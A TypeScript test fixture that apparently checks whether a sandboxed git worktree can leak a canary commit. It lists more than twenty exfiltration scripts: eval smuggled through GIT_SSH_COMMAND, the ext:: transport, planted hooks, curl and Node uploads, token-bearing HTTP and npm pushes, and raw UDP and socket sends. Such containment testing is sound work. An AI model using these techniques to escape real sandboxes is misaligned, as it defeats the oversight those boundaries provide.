import type { Outside } from "./outside.ts";

/** A way to get the commit `HEAD` out of a worktree, as a shell script. Every one works where nothing is in its way. */
export interface WayOut {
  readonly title: string;
  readonly script: (outside: Outside) => string;
}

const toBranch = (name: string) => `HEAD:refs/heads/${name}`;

export const waysOut: readonly WayOut[] = [
  {
    title: "another remote",
    script: ({ origin }) => `git remote add out ${origin}; git push out ${toBranch("remote")}`,
  },
  { title: "a path instead of a remote", script: ({ origin }) => `git push ${origin} ${toBranch("path")}` },
  {
    title: "GIT_SSH_COMMAND",
    script: ({ origin }) => `GIT_SSH_COMMAND='sh -c "eval \\$2" x' git push host:${origin} ${toBranch("ssh")}`,
  },
  {
    title: "core.sshCommand in the repository's configuration",
    script: ({ origin }) => `
      git config core.sshCommand 'sh -c "eval \\$2" x'
      git push host:${origin} ${toBranch("sshcommand")}
      git config --unset core.sshCommand`,
  },
  {
    title: "the transport ext::",
    script: ({ origin }) =>
      `git -c protocol.ext.allow=always push "ext::git-receive-pack ${origin}" ${toBranch("ext")}`,
  },
  {
    title: "an alias",
    script: ({ origin }) => `git config alias.look '!git push ${origin} ${toBranch("alias")}'; git look`,
  },
  {
    title: "pushInsteadOf",
    script: ({ origin }) => `
      git config url.${origin}.pushInsteadOf https://example.invalid/x.git
      git push https://example.invalid/x.git ${toBranch("instead")}`,
  },
  {
    title: "a submodule",
    script: ({ origin }) => `
      commit=$(git rev-parse HEAD)
      git -c protocol.file.allow=always clone -q ${origin} sub && cd sub
      git fetch -q .. $commit; git push -q origin FETCH_HEAD:refs/heads/submodule`,
  },
  {
    title: "a hook",
    script: ({ origin }) => `
      hooks=$(git rev-parse --path-format=absolute --git-common-dir)/hooks
      mkdir -p $hooks
      printf '#!/bin/sh\\nunset GIT_DIR GIT_INDEX_FILE\\ngit push ${origin} ${toBranch("hook")}\\n' > $hooks/post-commit
      chmod +x $hooks/post-commit
      git -c core.hooksPath=$hooks -c user.name=x -c user.email=x@example.org commit -q --allow-empty -m hooked
      rm $hooks/post-commit`,
  },
  { title: "send-pack", script: ({ origin }) => `git send-pack ${origin} ${toBranch("send-pack")}` },
  {
    title: "a fetch by the other side",
    script: ({ origin }) =>
      `here=$(git rev-parse --path-format=absolute --git-common-dir)
      git --git-dir=${origin} fetch $here $(git rev-parse HEAD):refs/heads/pulled`,
  },
  {
    title: "the origin's folder",
    script: ({ origin }) => `
      cp -r "$(git rev-parse --git-common-dir)/objects/." ${origin}/objects/
      git rev-parse HEAD > ${origin}/refs/heads/written`,
  },
  {
    title: "the person's own repository",
    script: ({ main }) => `git push ${main}/.git ${toBranch("home")}; git rev-parse main > ${main}/.git/refs/heads/own`,
  },
  { title: "git's own protocol", script: ({ gitUrl }) => `git push ${gitUrl} ${toBranch("git")}` },
  {
    title: "HTTP with a token",
    script: ({ webUrl }) =>
      `git -c http.extraHeader='Authorization: Bearer t0ken' push ${webUrl}/origin.git ${toBranch("http")}`,
  },
  {
    title: "a credential helper",
    script: ({ webUrl }) => `
      git -c credential.helper='!f() { echo username=a; echo password=b; }; f' push ${webUrl}/x.git ${toBranch("cred")}`,
  },
  {
    title: "a bundle that curl sends",
    script: ({ webUrl }) => `git bundle create -q - HEAD | curl -s -m 10 -T - ${webUrl}/bundle`,
  },
  {
    title: "a patch that Node sends",
    script: ({ webUrl }) => `
      git format-patch --stdout -1 HEAD~1 | node -e '
        const body = require("fs").readFileSync(0);
        fetch("${webUrl}/patch", { method: "POST", body }).catch(() => {})'`,
  },
  {
    title: "a gh of its own",
    script: ({ webUrl }) => `
      printf '#!/bin/sh\\ncurl -s -m 10 -H "Authorization: token t0ken" -d commit ${webUrl}/graphql\\n' > gh
      chmod +x gh; PATH=$PWD:$PATH gh pr create`,
  },
  {
    title: "npm publish",
    script: ({ webUrl }) => `
      echo '{ "name": "shop", "version": "1.0.0" }' > package.json
      npm publish --fetch-retries=0 --registry ${webUrl}/ --//${webUrl.slice("http://".length)}/:_authToken=t0ken`,
  },
  {
    title: "a script of Node that runs git",
    script: ({ origin }) =>
      `node -e 'require("child_process").spawnSync("git", ["push", "${origin}", "${toBranch("node")}"])'`,
  },
  {
    title: "a datagram",
    script: ({ udpPort }) => `
      node -e 'const s = require("dgram").createSocket("udp4"); s.send("x", ${udpPort}, "127.0.0.1", () => s.close())'`,
  },
  {
    title: "a socket without a file",
    script: ({ abstractSocket }) => `
      node -e 'require("net").connect("\\0${abstractSocket.slice(1)}").on("error", () => {}).end("x")'`,
  },
];

/** What all of them send. */
export const makeCanary =
  "git -c user.name=x -c user.email=x@example.org commit -q --allow-empty -m 'The canary commit'";
